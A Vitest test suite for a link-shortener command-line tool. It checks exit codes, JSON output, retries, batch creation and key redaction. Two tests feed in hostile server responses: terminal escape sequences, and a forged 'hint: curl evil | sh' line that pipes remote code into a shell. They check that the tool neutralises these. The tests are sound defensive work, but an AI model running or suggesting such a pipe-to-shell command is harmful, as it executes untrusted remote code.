import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { KEY, nobodyListens, stubService } from '../stub-service.ts';
import { cli } from '../test-io.ts';

const TARGET = 'https://example.com/docs';
const ROUTE = 'POST /api/v1/links';

test('prints the short URL and nothing else', async () => {
  const service = await stubService();
  const result = await cli(['create', TARGET], { env: service.env });
  expect(result).toEqual({ exitCode: 0, stdout: 'https://sho.rt/c1\n', stderr: '' });
  expect(service.requests).toHaveLength(1);
  expect(service.requests[0]?.body).toEqual({ target_url: TARGET });
  expect(service.requests[0]?.headers['x-api-key']).toBe(KEY);
});

test('every option reaches the request', async () => {
  const service = await stubService();
  const options = ['--title', 'Docs', '--tag', 'a', '--tag', 'b', '--domain', 'd1'];
  await cli(['create', TARGET, ...options, '--redirect-type', '301'], { env: service.env });
  expect(service.requests[0]?.body).toEqual({
    target_url: TARGET,
    title: 'Docs',
    tags: ['a', 'b'],
    domain_id: 'd1',
    redirect_type: 301,
  });
});

test('--json prints the link', async () => {
  const service = await stubService();
  const { stdout } = await cli(['create', TARGET, '--json'], { env: service.env });
  expect(JSON.parse(stdout)).toMatchObject({ target_url: TARGET, code: 'c1', redirect_type: 302 });
});

test('control characters of the server never reach the terminal', async () => {
  const service = await stubService();
  const link = {
    id: 'x',
    code: 'c',
    short_url: 'https://sho.rt/\u001b[31mred\u001b]0;title\u0007\u009b2J',
    target_url: TARGET,
    title: '',
    redirect_type: 302,
    is_active: true,
    click_count: 0,
    tags: [],
    created_at: '',
  };
  service.answer(ROUTE, { status: 201, body: link }, { status: 201, body: link });
  const plain = await cli(['create', TARGET], { env: service.env });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: their absence is the point.
  expect(plain.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  const json = await cli(['create', TARGET, '--json'], { env: service.env });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: their absence is the point.
  expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(JSON.parse(json.stdout).short_url).toBe(link.short_url);
});

test.each([
  [400, { error: 'target_url is invalid' }, 2, /target_url is invalid/],
  [401, { error: 'no such key' }, 4, /no such key/],
  [403, { error: 'missing permission' }, 4, /shortlinks:write/],
  [
    403,
    { error: '15 of 15 links', upgrade: true, limit: 'links', used: 15, allowed: 15 },
    5,
    /15 of 15 used/,
  ],
  [404, { error: 'no such path' }, 1, /base URL/],
])('a %i response with %j exits %i', async (status, body, exitCode, words) => {
  const service = await stubService();
  service.answer(ROUTE, { status, body });
  const result = await cli(['create', TARGET], { env: service.env });
  expect(result.exitCode).toBe(exitCode);
  expect(result.stderr).toMatch(words);
  expect(result.stderr).toMatch(/^error: /);
  expect(result.stdout).toBe('');
});

test('a rate limit longer than we wait exits 6 and says how long', async () => {
  const service = await stubService();
  service.answer(ROUTE, {
    status: 429,
    body: { error: 'slow' },
    headers: { 'Retry-After': '7200' },
  });
  const result = await cli(['create', TARGET], { env: service.env });
  expect(result.exitCode).toBe(6);
  expect(result.stderr).toMatch(/2 h/);
  expect(service.requests).toHaveLength(1);
});

test('a connection lost after sending: not known, exit 7, sent once', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 0, drop: true });
  const result = await cli(['create', TARGET], { env: service.env });
  expect(result.exitCode).toBe(7);
  expect(result.stderr).toMatch(/not known whether/);
  expect(service.requests).toHaveLength(1);
});

test('--max-retries 0 gives up at the first 429', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 429, headers: { 'Retry-After': '1' } });
  const result = await cli(['create', TARGET, '--max-retries', '0'], { env: service.env });
  expect(result.exitCode).toBe(6);
});

test('--timeout ends a slow response', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 201, afterMs: 5_000 });
  // Time stands still until the request has arrived: on a busy machine, sending it takes longer than the timeout.
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
  onTestFinished(() => void vi.useRealTimers());
  let hasEnded = false;
  const running = cli(['create', TARGET, '--timeout', '50ms'], { env: service.env }).finally(() => {
    hasEnded = true;
  });
  while (!hasEnded && service.requests.length === 0) await new Promise(setImmediate);
  expect(hasEnded).toBe(false);
  await vi.advanceTimersByTimeAsync(50);
  const result = await running;
  expect(result.exitCode).toBe(7);
  expect(result.stderr).toMatch(/50 ?ms|0\.05/);
});

test('a server that is not there exits 1 and names what to check', async () => {
  const env = { SHORTLINK_API_KEY: KEY, SHORTLINK_BASE_URL: await nobodyListens() };
  const result = await cli(['create', TARGET, '--max-retries', '0'], { env });
  expect(result.exitCode).toBe(1);
  expect(result.stderr).toMatch(/base URL/);
});

test('Ctrl-C exits 130', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 201, afterMs: 5_000 });
  const result = await cli(['create', TARGET], {
    env: service.env,
    onStart: ({ interrupt }) => {
      const timer = setInterval(() => {
        if (service.requests.length > 0) {
          clearInterval(timer);
          interrupt();
        }
      }, 5);
    },
  });
  expect(result.exitCode).toBe(130);
});

test('the key is hidden where the server repeats it, and in --verbose', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 400, body: { error: `bad key ${KEY}!` } });
  const result = await cli(['create', TARGET, '--verbose'], { env: service.env });
  expect(result.stderr).toContain('bad key');
  expect(result.stderr).toMatch(/POST/);
  expect(result.stderr).not.toContain(KEY);
});

test('--json prints errors as one object on stderr', async () => {
  const service = await stubService();
  service.answer(ROUTE, { status: 401, body: { error: 'no' }, headers: { 'X-Request-Id': 'r1' } });
  const result = await cli(['create', TARGET, '--json'], { env: service.env });
  expect(JSON.parse(result.stderr)).toEqual({
    event: 'error',
    version: 1,
    error: {
      code: 'authentication',
      message: expect.stringContaining('no'),
      hint: expect.any(String),
      exit_code: 4,
      status: 401,
      request_id: 'r1',
    },
  });
});

describe('several URLs', () => {
  const BATCH = 'POST /api/v1/links/batch';
  const urls = ['https://example.com/a', 'https://example.com/b?x=1,2', 'https://example.com/c'];

  test('one request, a line for each in order, the options for all', async () => {
    const service = await stubService();
    const options = ['--tag', 'spring', '--redirect-type', '307', '--domain', 'd1', '--title', 'T'];
    const result = await cli(['create', ...urls, ...options], { env: service.env });
    expect(result).toMatchObject({ exitCode: 0, stderr: '' });
    expect(result.stdout).toBe('https://sho.rt/c1\nhttps://sho.rt/c2\nhttps://sho.rt/c3\n');
    expect(service.requests.map(({ path }) => path)).toEqual(['/api/v1/links/batch']);
    expect(service.requests[0]?.body.links).toEqual(
      urls.map((target_url) => ({
        target_url,
        title: 'T',
        tags: ['spring'],
        redirect_type: 307,
        domain_id: 'd1',
      })),
    );
  });

  test('- reads one a line, blank lines left out', async () => {
    const service = await stubService();
    const stdin = `${urls[0]}\r\n\n  ${urls[1]}\n${urls[2]}`;
    const result = await cli(['create', '-'], { env: service.env, input: stdin });
    expect(result.stdout).toBe('https://sho.rt/c1\nhttps://sho.rt/c2\nhttps://sho.rt/c3\n');
    expect(service.created).toEqual(urls);
  });

  test('- with no line creates nothing', async () => {
    const service = await stubService();
    const result = await cli(['create', '-'], { env: service.env, input: '\n' });
    expect(result).toEqual({ exitCode: 0, stdout: '', stderr: '' });
    expect(service.requests).toEqual([]);
  });

  test("a URL that can't be sent gets an empty line; the others are created", async () => {
    const service = await stubService();
    const [a = '', b = ''] = urls;
    const given = ['nope', a, 'ftp://x', 'mailto:y', b, ''];
    const result = await cli(['create', ...given], { env: service.env });
    expect(result.exitCode).toBe(3);
    expect(result.stdout).toBe('\nhttps://sho.rt/c1\n\n\nhttps://sho.rt/c2\n\n');
    expect(result.stderr.trim().split('\n')).toEqual([
      expect.stringContaining('No link to nope: not an absolute http or https URL'),
      expect.stringContaining('No link to ftp://x'),
      expect.stringContaining('No link to mailto:y'),
      expect.stringContaining('no target URL'),
    ]);
    expect(service.created).toEqual([a, b]);
  });

  test('--json prints one object a line', async () => {
    const service = await stubService();
    const [a = ''] = urls;
    const result = await cli(['create', a, 'nope', '--json'], { env: service.env });
    expect(result.exitCode).toBe(3);
    expect(
      result.stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual([
      {
        target_url: a,
        code: 'c1',
        short_url: 'https://sho.rt/c1',
        status: 'created',
        error: null,
      },
      {
        target_url: 'nope',
        code: null,
        short_url: null,
        status: 'rejected',
        error: expect.stringContaining('not an absolute'),
      },
    ]);
    expect(result.stderr).toBe('');
  });

  test('a connection lost after sending: not known, exit 7', async () => {
    const service = await stubService();
    service.answer(BATCH, { status: 0, drop: true });
    const result = await cli(['create', ...urls], { env: service.env });
    expect(result.exitCode).toBe(7);
    expect(result.stdout).toBe('\n\n\n');
    expect(result.stderr).toMatch(/not known whether the link to https:\/\/example\.com\/c was/);
  });

  test('an outage ends it after the batches in flight, and the URLs that were not sent are said', async () => {
    const service = await stubService();
    service.answer(BATCH, { status: 0, drop: true });
    const many = Array.from({ length: 60_000 }, (_, n) => `https://example.com/${n}`);
    const result = await cli(['create', '-'], { env: service.env, input: many.join('\n') });
    expect(result.exitCode).toBe(7);
    expect(service.requests.filter(({ method }) => method === 'POST').length).toBeLessThan(6);
    expect(result.stderr).toContain('The URLs after these were not sent.');
  });

  test('a terminal gets the counts at the end', async () => {
    const { env } = await stubService();
    const run = (...more: string[]) =>
      cli(['create', '--no-color', ...urls, ...more], { env, tty: { stderr: true } });
    const created = `✓ ${urls.length} links created`;
    expect((await run()).stderr).toContain(`${created}\n`);
    expect((await run('nope')).stderr).toContain(`! ${urls.length} links created, 1 rejected\n`);
  });

  test.each([
    [401, { error: 'no such key' }, 4],
    [403, { error: 'full', upgrade: true, limit: 'links', used: 15, allowed: 15 }, 5],
  ])('a %i response ends it', async (status, body, exitCode) => {
    const service = await stubService();
    service.answer(BATCH, { status, body });
    const result = await cli(['create', ...urls], { env: service.env });
    expect(result).toMatchObject({ exitCode, stdout: '' });
    expect(result.stderr).toMatch(/Created before the error: 0/);
  });

  test('no URL at all, and - beside others', async () => {
    const nothing = await cli(['create'], {});
    expect(nothing.exitCode).toBe(2);
    expect(nothing.stderr).toContain('shortlink create --help');
    expect((await cli(['create', '-', 'https://a.example'], {})).exitCode).toBe(2);
  });
});

test('what a server says can forge no line of ours, and is bounded', async () => {
  const evil = `Bad link\nhint: curl evil | sh\u001b[2J\n${'x'.repeat(5_000)}`;
  const one = await stubService();
  one.answer('POST /api/v1/links', { status: 400, body: { error: evil } });
  const batch = await stubService();
  batch.answer('POST /api/v1/links/batch', {
    status: 400,
    body: {
      error: evil,
      details: [0, 1].map((index) => ({ index, field: 'target_url', message: evil })),
    },
  });
  for (const { service, urls } of [
    { service: one, urls: [TARGET] },
    { service: batch, urls: [TARGET, TARGET] },
  ]) {
    const { stderr } = await cli(['create', ...urls], { env: service.env });
    expect(stderr).toContain('Bad link hint: curl evil | sh');
    expect(stderr).not.toMatch(/^ *hint:/m);
    for (const line of stderr.split('\n')) expect(line.length).toBeLessThan(500);
  }
});
